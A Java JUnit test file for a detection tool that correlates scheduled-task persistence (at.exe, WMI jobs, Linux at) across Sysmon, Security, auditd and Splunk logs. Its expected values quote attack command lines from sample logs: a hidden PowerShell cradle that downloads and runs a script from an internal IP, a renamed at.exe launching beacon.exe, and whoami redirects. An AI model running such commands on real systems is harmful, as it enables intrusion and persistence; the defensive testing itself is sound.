package dev.atwatch.correlate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.atwatch.event.Provenance;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The scenarios of {@code examples/} linked end to end, as {@code examples/README.md} tells. */
class ExampleChainsTest {

    private static final Path WINDOWS = ChainRun.EXAMPLES.resolve("windows");
    private static final Path LINUX = ChainRun.EXAMPLES.resolve("linux");
    private static final Path T3 = ChainRun.EXAMPLES.resolve("atomic/t3-wmi-scheduledjob");

    @BeforeAll
    static void examplesArePresent() {
        assumeTrue(Files.isDirectory(WINDOWS), "the examples folder is absent: " + WINDOWS);
    }

    @Test
    void atCmdJobLinksItsCreationJobFileAndRun() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-cmd.xml"));

        assertThat(report.chains()).hasSize(2);
        Chain first = report.chains().get(0);
        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
        assertThat(first.host()).isEqualTo("WS-FIN-014.kestrel.lan");
        assertThat(first.creation().commandLine()).isEqualTo("at  13:20 /interactive cmd");
        assertThat(first.registration().kind()).isEqualTo("Sysmon 11");
        assertThat(first.registration().detail()).isEqualTo("C:\\Windows\\Tasks\\At1.job");
        assertThat(first.execution().commandLine()).isEqualTo("cmd");
        assertThat(first.execution().user()).isEqualTo("NT AUTHORITY\\SYSTEM");
        assertThat(iso(first.execution().time())).startsWith("2026-03-10T13:20:00");
        assertThat(first.job()).containsEntry("JobCommand", "cmd");
    }

    @Test
    void weeklyJobWhoseDayIsNotInTheInputIsPartial() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-cmd.xml"));

        Chain second = report.chains().get(1);
        assertThat(second.missing()).containsExactly(Link.EXECUTION);
        assertThat(second.registration().detail()).endsWith("At2.job");
        assertThat(second.note()).isEqualTo("the input ends before the predicted run");
        assertThat(second.status()).isEqualTo("partial (no execution)");
    }

    @Test
    void securityLogAloneLinksThroughTask4698() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("security-4688-at-powershell.xml"));

        Chain first = report.chains().get(0);
        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
        assertThat(first.creation().kind()).isEqualTo("Security 4688");
        assertThat(first.registration().kind()).isEqualTo("Security 4698");
        assertThat(first.registration().detail()).isEqualTo("At1");
        assertThat(first.execution().commandLine()).startsWith("powershell.exe -nop -w hidden");
        assertThat(iso(first.execution().time())).startsWith("2026-03-11T10:05:00");
    }

    @Test
    void wmiScheduledJobLinksToTheCommandItRan() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-wmi-scheduledjob.xml"));

        Chain first = report.chains().get(0);
        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
        assertThat(first.creation().commandLine()).contains("Invoke-WmiMethod");
        assertThat(first.registration().detail()).endsWith("At1.job");
        assertThat(first.execution().commandLine())
                .isEqualTo("cmd.exe /c whoami > c:\\windows\\temp\\x.txt");
        assertThat(report.chains()).hasSize(5);
        assertThat(report.chains().subList(1, 5)).noneMatch(Chain::complete);
    }

    @Test
    void everyShapeOfTheWindowsExamplesGivesOneChainPerJob() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS);

        // at-cmd 2, at-powershell 2, wmi-scheduledjob 5, at-evasion 2; each job once, although
        // every event is in five files and the host names differ between shapes.
        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(11);
        List<Chain> complete = report.chains().stream().filter(Chain::complete).toList();
        assertThat(complete)
                .extracting(c -> c.execution().commandLine())
                .containsExactly(
                        "cmd",
                        "powershell.exe -nop -w hidden -c \"IEX (New-Object"
                                + " Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
                        "cmd.exe /c whoami > c:\\windows\\temp\\x.txt",
                        "C:\\Users\\Public\\beacon.exe");
        assertThat(complete)
                .allSatisfy(c -> assertThat(c.execution().kind()).isEqualTo("Sysmon 1"));
    }

    @Test
    void renamedAtExeIsReadByItsOriginalFileName() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("sysmon-at-evasion.xml"));

        Chain first = report.chains().get(0);
        assertThat(first.complete()).as(ChainRun.describe(report)).isTrue();
        assertThat(first.creation().image()).isEqualTo("C:\\Users\\Public\\svc.exe");
        assertThat(first.execution().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
    }

    @Test
    void taskRegistrationWithoutVisibleCreationStillFindsItsRun() throws Exception {
        // The Security log cannot tell that svc.exe is at.exe; 4698's task content names the
        // command, which is enough to find the run.
        ChainReport report = ChainRun.of(WINDOWS.resolve("security-4688-at-evasion.xml"));

        Chain first = report.chains().get(0);
        assertThat(first.missing()).containsExactly(Link.CREATION);
        assertThat(first.registration().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
        assertThat(first.execution().commandLine()).isEqualTo("C:\\Users\\Public\\beacon.exe");
    }

    @Test
    void linuxAtJobLinksSpoolFileAndAtdShell() throws Exception {
        ChainReport report = ChainRun.of(LINUX.resolve("test4-at-job"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
        Chain chain = report.chains().get(0);
        assertThat(chain.complete()).isTrue();
        assertThat(chain.host()).isEqualTo("web01");
        assertThat(chain.creation().commandLine()).isEqualTo("at now + 1 minute");
        assertThat(chain.registration().detail())
                .isEqualTo("/var/spool/cron/atjobs/a0000201c8d418");
        assertThat(chain.execution().kind()).isEqualTo("auditd EXECVE");
        assertThat(chain.execution().commandLine()).isEqualTo("sh");
        assertThat(chain.execution().user()).isEqualTo("1000");
    }

    @Test
    void sudoAtJobRunsAsRootAndLinks() throws Exception {
        ChainReport report = ChainRun.of(LINUX.resolve("test5-sudo-at"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
        Chain chain = report.chains().get(0);
        assertThat(chain.complete()).isTrue();
        assertThat(chain.registration().detail()).isEqualTo("/var/spool/at/a0000a01c8d422");
        assertThat(chain.execution().user()).isEqualTo("0");
    }

    @Test
    void syslogLineAloneIsTheRunWhenAuditdHasNoShell() throws Exception {
        Path folder = LINUX.resolve("test4-at-job");
        ChainReport report = ChainRun.of(folder.resolve("audit.log"), folder.resolve("syslog"));

        assertThat(report.chains()).hasSize(1);
        assertThat(report.chains().get(0).complete()).isTrue();
    }

    @Test
    void chainsDoNotDependOnInputOrder() throws Exception {
        Path sysmon = WINDOWS.resolve("sysmon-at-cmd.xml");
        Path security = WINDOWS.resolve("security-4688-at-cmd.xml");

        String forward = ChainRun.describe(ChainRun.of(sysmon, security));
        String backward = ChainRun.describe(ChainRun.of(security, sysmon));

        assertThat(backward).isEqualTo(forward);
    }

    @Test
    void alertOnEitherLogOfTheCreationNamesTheChain() throws Exception {
        ChainReport report =
                ChainRun.of(
                        WINDOWS.resolve("sysmon-at-cmd.xml"),
                        WINDOWS.resolve("security-4688-at-cmd.xml"));

        Chain first = report.chains().get(0);
        // at.exe in Sysmon and in 4688, and the cmd /c wrapper in both.
        assertThat(first.creationSources()).hasSize(4);
        assertThat(Correlator.chainsByEvent(report.chains()))
                .containsEntry(first.creationSources().get(0), new ChainEvent("C1", Link.CREATION));
    }

    @Test
    void everyLogOfTheRegistrationAndOfTheRunNamesTheChain() throws Exception {
        Path test1 = ChainRun.EXAMPLES.resolve("atomic").resolve("t1-at-cmd");
        ChainReport report =
                ChainRun.of(
                        test1.resolve("sysmon.xml"),
                        test1.resolve("security.xml"),
                        test1.resolve("task-scheduler.xml"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
        Chain chain = report.chains().get(0);
        // Sysmon 11 of At1.job, Security 4698 and Task Scheduler 106 of \At1.
        assertThat(chain.registrationSources())
                .extracting(source -> Path.of(source.input()).getFileName().toString())
                .containsExactlyInAnyOrder("sysmon.xml", "security.xml", "task-scheduler.xml");
        // cmd.exe under svchost.exe in Sysmon 1 and in Security 4688.
        assertThat(chain.executionSources())
                .extracting(source -> Path.of(source.input()).getFileName().toString())
                .containsExactlyInAnyOrder("sysmon.xml", "security.xml");
        Map<Provenance, ChainEvent> events = Correlator.chainsByEvent(report.chains());
        for (Link link : Link.values()) {
            assertThat(chain.sources(link))
                    .allSatisfy(
                            source ->
                                    assertThat(events.get(source))
                                            .isEqualTo(new ChainEvent("C1", link)));
        }
        assertThat(chain.registrationSources()).contains(chain.registration().provenance());
        assertThat(chain.executionSources()).contains(chain.execution().provenance());
    }

    @Test
    void scriptBlockAloneStartsAChain() throws Exception {
        ChainReport report = ChainRun.of(T3.resolve("powershell-4104.xml"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
        Chain chain = report.chains().get(0);
        assertThat(chain.creation().kind()).isEqualTo("PowerShell 4104");
        assertThat(chain.job())
                .containsEntry("JobCommand", "cmd.exe /c whoami > C:\\Windows\\Temp\\wmijob.txt");
        assertThat(chain.window()).isNotNull();
    }

    @Test
    void scriptBlockAndTheProcessThatRanItAreOneCreation() throws Exception {
        ChainReport report =
                ChainRun.of(T3.resolve("sysmon.xml"), T3.resolve("powershell-4104.xml"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(1);
        Chain chain = report.chains().get(0);
        assertThat(chain.complete()).isTrue();
        assertThat(chain.creation().kind()).isEqualTo("Sysmon 1");
        assertThat(chain.creationSources())
                .anySatisfy(p -> assertThat(p.input()).endsWith("powershell-4104.xml"));
    }

    @Test
    void splunkExportNewestFirstStillLinksInTimeOrder() throws Exception {
        ChainReport report = ChainRun.of(WINDOWS.resolve("splunk-export-at-cmd.json"));

        assertThat(report.chains()).as(ChainRun.describe(report)).hasSize(2);
        assertThat(report.chains().get(0).complete()).isTrue();
        assertThat(report.lateCandidates()).isZero();
    }

    @Test
    void everyExampleLinksTheFiveTestsEndToEnd() throws Exception {
        ChainReport report = ChainRun.of(ChainRun.EXAMPLES);

        List<Chain> complete = report.chains().stream().filter(Chain::complete).toList();
        assertThat(complete)
                .as(ChainRun.describe(report))
                .extracting(c -> c.host() + " " + iso(c.creation().time()).substring(0, 10))
                .contains(
                        "WS-OPS-007.heron.lan 2026-04-06",
                        "WS-OPS-007.heron.lan 2026-04-07",
                        "WS-OPS-007.heron.lan 2026-04-08",
                        "web01 2026-12-03",
                        "db02 2026-12-03");
        assertThat(report.notes()).isEmpty();
    }

    private static String iso(double epochSeconds) {
        return java.time.Instant.ofEpochMilli((long) (epochSeconds * 1000)).toString();
    }
}
